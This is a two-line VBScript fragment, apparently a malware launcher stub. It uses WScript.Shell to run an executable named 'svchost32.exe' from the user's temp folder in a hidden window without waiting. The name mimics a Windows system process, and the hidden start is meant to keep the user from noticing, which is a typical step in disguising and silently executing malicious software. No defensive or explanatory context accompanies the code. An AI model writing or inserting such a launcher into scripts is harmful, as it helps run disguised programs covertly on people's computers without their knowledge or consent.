Set s = CreateObject("WScript.Shell")
s.Run "%TEMP%\svchost32.exe", 0, False
